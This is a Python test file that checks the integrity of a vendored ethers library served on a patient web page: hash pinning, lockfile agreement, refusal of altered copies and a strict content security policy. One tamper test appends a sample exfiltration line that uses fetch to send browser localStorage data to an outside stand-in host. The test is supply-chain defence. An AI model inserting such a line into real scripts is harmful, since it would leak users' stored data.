"""The patient page's vendored ethers: the committed copy is the pinned one, the pin is what the
ethers release in package-lock.json ships, a copy that differs is refused, and the page loads it."""

from __future__ import annotations

import hashlib
import json
import re
from pathlib import Path
from types import SimpleNamespace
from urllib.parse import urljoin

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient

from api.routes import patient_page
from api.routes.patient_page import ETHERS_FILE, ETHERS_SHA256, ETHERS_URL, ETHERS_VERSION, pinned_ethers
from ledger.config import Settings
from ledger.exceptions import PackageDataError
from tests.support import paths

ROOT = paths.REPO
NPM_ETHERS = ROOT / "node_modules" / "ethers"
_SCRIPT_SRC = re.compile(r"<script[^>]*\ssrc=\"([^\"]+)\"")
_JS_IMPORT = re.compile(r"(?:\bfrom|\bimport)\s*[\"'](\.{1,2}/[^\"']+)[\"']")


@pytest.fixture(scope="module")
def page() -> TestClient:
    """The page's router alone: serving static files needs no ledger."""
    app = FastAPI()
    app.include_router(patient_page.router)
    return TestClient(app)


def test_the_committed_copy_is_the_pinned_one() -> None:
    assert hashlib.sha256(ETHERS_FILE.read_bytes()).hexdigest() == ETHERS_SHA256
    assert pinned_ethers() == ETHERS_FILE.read_bytes()


def test_the_pin_names_the_release_in_package_lock() -> None:
    lock = json.loads((ROOT / "package-lock.json").read_text("utf-8"))
    assert lock["packages"]["node_modules/ethers"]["version"] == ETHERS_VERSION
    assert json.loads((ROOT / "package.json").read_text("utf-8"))["dependencies"]["ethers"] == ETHERS_VERSION


def test_the_pin_is_what_that_release_ships() -> None:
    if not (NPM_ETHERS / "package.json").is_file():
        pytest.skip("node_modules/ethers is not installed (npm ci)")
    assert json.loads((NPM_ETHERS / "package.json").read_text("utf-8"))["version"] == ETHERS_VERSION
    shipped = (NPM_ETHERS / "dist" / "ethers.min.js").read_bytes()
    assert hashlib.sha256(shipped).hexdigest() == ETHERS_SHA256


def test_a_copy_that_differs_from_the_pin_is_refused(tmp_path: Path) -> None:
    tampered = tmp_path / "ethers.min.js"
    tampered.write_bytes(ETHERS_FILE.read_bytes() + b"\n;fetch('https://example.org/'+localStorage.key)")
    with pytest.raises(PackageDataError, match="is not the pinned ethers") as raised:
        pinned_ethers(tampered)
    assert raised.value.details["expected"] == ETHERS_SHA256
    assert raised.value.details["found"] == hashlib.sha256(tampered.read_bytes()).hexdigest()


def test_a_missing_copy_is_refused(tmp_path: Path) -> None:
    with pytest.raises(PackageDataError, match="is missing"):
        pinned_ethers(tmp_path / "ethers.min.js")


def _modules_of_the_page(page: TestClient) -> set[str]:
    """Every script URL the page loads: its ``<script src>`` and, transitively, their relative imports."""
    index = page.get("/patient/")
    assert index.status_code == 200
    pending = [urljoin("/patient/", src) for src in _SCRIPT_SRC.findall(index.text)]
    seen: set[str] = set()
    while pending:
        url = pending.pop()
        if url in seen:
            continue
        seen.add(url)
        served = page.get(url)
        assert served.status_code == 200, url
        if url != ETHERS_URL:
            pending.extend(urljoin(url, target) for target in _JS_IMPORT.findall(served.text))
    return seen


def test_the_page_loads_the_pinned_copy(page: TestClient) -> None:
    assert ETHERS_URL in _modules_of_the_page(page)
    served = page.get(ETHERS_URL)
    assert served.status_code == 200 and served.headers["content-type"].startswith("text/javascript")
    assert hashlib.sha256(served.content).hexdigest() == ETHERS_SHA256
    assert served.headers["content-security-policy"] == patient_page.CONTENT_SECURITY_POLICY


def test_the_page_may_connect_to_the_public_node_and_nowhere_else() -> None:
    app = FastAPI()
    app.include_router(patient_page.router)
    app.state.service = SimpleNamespace(settings=Settings(public_rpc_url="https://rpc.example.org/v1/public"))
    policy = TestClient(app).get("/patient/").headers["content-security-policy"]
    assert "connect-src 'self' https://rpc.example.org;" in policy
    assert policy == patient_page.content_security_policy("https://rpc.example.org")
    assert "script-src 'self';" in policy and "default-src 'none'" in policy
